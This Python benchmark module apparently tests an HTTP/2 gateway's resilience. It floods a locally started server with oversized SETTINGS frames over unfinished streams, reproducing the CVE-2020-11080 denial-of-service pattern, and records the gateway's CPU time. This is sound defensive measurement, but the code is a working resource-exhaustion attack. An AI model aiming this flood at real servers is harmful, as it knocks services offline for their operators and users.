"""SETTINGS frames full of windows: how much of a core does one connection take?

    python -m bench.settings_flood [--frames 950]

One client opens streams over HTTP/2 to `headgate up`, with bodies that do not end, and sends frames of 2,730 settings,
each of which would move the windows of all streams (the pattern of CVE-2020-11080). Prints the processor time of the
gateway until it has read them all, or has closed the connection.
"""

import argparse
import os
import shutil
import socket
import time
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from bench.servers.frames import END_HEADERS, HEADERS, PREFACE, SETTINGS, frame, header_block
from bench.servers.origin import start_origin
from bench.setup.manifests import SEPARATOR, endpoint_slice, ingress, service, write_class
from bench.setup.processes import free_ports
from bench.setup.stack import Stack
from bench.setup.workload import SMALL_BYTES

HOST = "flood.example"
STREAMS = 100
ENTRIES = 2730
_WINDOW = (4).to_bytes(2, "big")
_READY_S = 60.0
_QUIET_S = 2.0


@dataclass(frozen=True)
class Flooded:
    """What the frames cost."""

    sent: int
    cpu_s: float
    was_closed: bool


def measure(folder: Path, frames: int) -> Flooded:
    """Start the stack and attack it. Raises BenchError if it does not start."""
    shutil.rmtree(folder, ignore_errors=True)
    manifests = folder / "manifests"
    write_class(manifests)
    (port,) = free_ports(1)
    parts = (service("flood"), endpoint_slice("flood", port), ingress("flood", HOST, "flood"))
    (manifests / "site.yaml").write_text(SEPARATOR.join(parts))
    with start_origin(folder / "origin", [port]), Stack(manifests, folder) as stack:
        stack.wait_until_serving(HOST, "x" * SMALL_BYTES, _READY_S)
        return _flood(stack.http_port, stack.pids["gateway"], frames)


def _flood(port: int, gateway: int, frames: int) -> Flooded:
    entries = b"".join(_WINDOW + (65_535 - number % 2).to_bytes(4, "big") for number in range(ENTRIES))
    with socket.create_connection(("127.0.0.1", port), 60) as client:
        client.sendall(PREFACE + frame(SETTINGS, 0, 0) + b"".join(map(_request, range(STREAMS))))
        time.sleep(_QUIET_S)
        before, sent = _cpu_s(gateway), 0
        try:
            for _ in range(frames):
                client.sendall(frame(SETTINGS, 0, 0, entries))
                sent += 1
        except ConnectionError:
            pass
        cpu_s = _settled(gateway)
        return Flooded(sent, cpu_s - before, sent < frames or _is_closed(client))


def _request(number: int) -> bytes:
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", HOST.encode()))
    return frame(HEADERS, END_HEADERS, 2 * number + 1, header_block(*fields))


def _settled(pid: int) -> float:
    """Return the processor time once it does not grow any more."""
    found = _cpu_s(pid)
    while True:
        time.sleep(_QUIET_S)
        later = _cpu_s(pid)
        if later - found < 0.1:
            return later
        found = later


def _cpu_s(pid: int) -> float:
    words = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")


def _is_closed(client: socket.socket) -> bool:
    client.settimeout(1)
    try:
        while client.recv(1 << 16):
            pass
    except TimeoutError:
        return False
    except ConnectionError:
        return True
    return True


def main(argv: Sequence[str] | None = None) -> int:
    """Measure and print."""
    parser = argparse.ArgumentParser(prog="python -m bench.settings_flood", description="Attack by SETTINGS frames.")
    parser.add_argument("--frames", type=int, default=950, help="frames of 2,730 settings, default 950")
    parser.add_argument("--folder", type=Path, default=Path("bench/.work/settings-flood"))
    options = parser.parse_args(argv)
    found = measure(options.folder.absolute(), options.frames)
    print(f"{found.sent} frames, {found.cpu_s:.2f} s of the gateway, closed: {found.was_closed}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
